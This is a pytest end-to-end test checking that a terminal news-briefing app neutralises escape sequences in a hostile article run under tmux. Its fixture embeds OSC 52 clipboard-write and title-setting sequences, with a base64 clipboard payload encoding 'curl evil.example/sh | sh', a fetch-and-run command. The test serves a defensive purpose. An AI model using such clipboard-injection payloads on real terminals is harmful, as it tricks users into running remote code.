"""End-to-end: an article's escape sequences do not reach a real terminal (tmux).

tmux obeys OSC 52 (with ``set-clipboard on``: the text goes into a tmux buffer)
and OSC 0/2 (the pane title): after the app shows such an article, the pane's
title is the one the shell set and tmux holds no buffer.
"""

from __future__ import annotations

import base64
import shlex
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from .test_tmux import BRIEFING, TMUX, Terminal

pytestmark = [
    pytest.mark.skipif(TMUX is None, reason="tmux is not installed"),
    pytest.mark.skipif(not Path(BRIEFING).exists(), reason="the briefing command is not installed"),
]

PAYLOAD = base64.b64encode(b"curl evil.example/sh | sh").decode()
HOSTILE = (
    "Mayor \x1b]0;pwned-title\x07 closes bridge\n"
    f"The council voted on Tuesday \x1b]52;c;{PAYLOAD}\x07 to close the bridge, the mayor said.\n"
    f"The works start in May \x1b]52;c;{PAYLOAD}\x1b\\, \x1b]2;pwned-title\x1b\\ he added.\n"
    "Clear \x1b[2J\x1b[?1049l and \x9b31m red.\n"
)


@pytest.fixture
def terminal(tmp_path: Path) -> Iterator[Callable[[str], Terminal]]:
    made: list[Terminal] = []

    def make(command: str) -> Terminal:
        env = {"BRIEFING_HOME": str(tmp_path / "home"), "BRIEFING_CACHE": str(tmp_path / "cache")}
        made.append(Terminal(command, env, (160, 48)))
        return made[-1]

    yield make
    for each in made:
        each.close()


def test_an_article_does_not_set_the_title_or_the_clipboard(
    terminal: Callable[[str], Terminal], tmp_path: Path
) -> None:
    article = tmp_path / "hostile.txt"
    article.write_text(HOSTILE, encoding="utf-8")
    ready = tmp_path / "ready"
    # The shell names the pane and waits for tmux to be set up before starting the app.
    command = (
        f"printf '\\033]2;before\\033\\\\'; while [ ! -e {shlex.quote(str(ready))} ]; do "
        f"sleep 0.05; done; exec {shlex.quote(BRIEFING)} {shlex.quote(str(article))}"
    )
    term = terminal(command)
    term._tmux("set-option", "-g", "set-clipboard", "on")
    ready.touch()
    screen = term.wait_for(lambda s: "red." in s and "Claims" in s, "the article's last line")
    title = term._tmux("display-message", "-p", "-t", term.session, "#{pane_title}")
    assert title.strip() == "before"
    assert term._tmux("list-buffers") == ""
    assert "closes bridge" in screen and "pwned" in screen  # the sequences, made visible
    term.keys("q")
